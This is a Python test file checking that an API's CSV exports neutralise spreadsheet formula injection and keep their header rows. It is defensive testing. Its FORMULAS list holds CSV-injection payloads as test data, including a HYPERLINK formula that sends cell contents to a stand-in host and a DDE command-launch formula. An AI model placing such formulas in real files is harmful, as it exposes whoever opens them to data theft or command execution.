"""Every CSV the API writes (list downloads, the flat exports, the reports) neutralises cells a
spreadsheet would run as a formula, and always starts with its header row."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from api.renderers import csv_cell
from tests.api.conftest import client_for
from tests.factories import IncidentFactory, NearMissFactory, SystemFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]
IN_Q1 = "?period=custom&start=2026-01-01&end=2026-04-01"


def _rows(response) -> list[dict[str, str]]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_a_formula_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+3.25", "-0.5", "Disk full", "", "a=b", -5, 2.5, None])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    # A signed number cannot run, and a spreadsheet reads it as the number it is.
    assert csv_cell(value) == value


@pytest.fixture
def formulas(db):
    system = SystemFactory(name="@SUM(A1:A9)", slug="sum", owner_team=None)
    IncidentFactory(
        title=FORMULAS[0],
        external_id="=1+1",
        started_at=datetime(2026, 2, 1, tzinfo=UTC),
        systems=[system],
    )
    NearMissFactory(title=FORMULAS[1], occurred_at=datetime(2026, 2, 2, tzinfo=UTC))


@pytest.mark.parametrize(
    ("url", "column", "text"),
    [
        ("/api/v1/incidents/?format=csv", "title", FORMULAS[0]),
        ("/api/v1/incidents/export/", "title", FORMULAS[0]),
        ("/api/v1/incidents/export/", "external_id", "=1+1"),
        ("/api/v1/near-misses/?format=csv", "title", FORMULAS[1]),
        ("/api/v1/near-misses/export/", "title", FORMULAS[1]),
        ("/api/v1/systems/?format=csv", "name", "@SUM(A1:A9)"),
        (f"/api/v1/reports/systems/{IN_Q1}&format=csv", "name", "@SUM(A1:A9)"),
    ],
)
def test_every_csv_neutralises_formulas(formulas, superuser, url, column, text):
    rows = _rows(client_for(superuser).get(url))
    assert "'" + text in [row[column] for row in rows]
    assert text not in [row[column] for row in rows]


@pytest.mark.parametrize("report", ["themes", "systems"])
def test_an_empty_report_still_has_its_header(db, reader, report):
    response = client_for(reader).get(f"/api/v1/reports/{report}/?format=csv")
    lines = response.content.decode().splitlines()
    assert len(lines) == 1
    assert {"slug", "name", "change.verdict"} <= set(lines[0].split(","))


def test_a_report_has_the_same_header_with_rows_as_without(db, reader):
    client = client_for(reader)
    empty = client.get(f"/api/v1/reports/systems/{IN_Q1}&format=csv").content.decode()
    SystemFactory(name="queue")
    IncidentFactory(started_at=datetime(2026, 2, 1, tzinfo=UTC), systems=[SystemFactory()])
    full = client.get(f"/api/v1/reports/systems/{IN_Q1}&format=csv").content.decode()
    assert len(full.splitlines()) == 3
    assert full.splitlines()[0] == empty.splitlines()[0]
    assert None not in _rows_of(full)[0]  # no cell without a column


def _rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))
